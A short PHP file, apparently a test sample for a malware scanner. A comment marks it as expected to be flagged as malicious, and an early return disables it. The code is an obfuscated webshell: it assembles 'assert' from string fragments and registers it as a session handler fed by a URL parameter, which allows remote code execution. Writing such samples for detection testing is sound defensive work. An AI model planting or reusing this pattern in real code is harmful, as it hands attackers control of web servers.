<?php return; // want: malicious php.code.request
$reader = implode('', array('as', 'se', 'rt'));
function nothing() { return true; }
session_id($_GET['id']);
session_set_save_handler('nothing', 'nothing', $reader, 'nothing', 'nothing', 'nothing');
session_start();
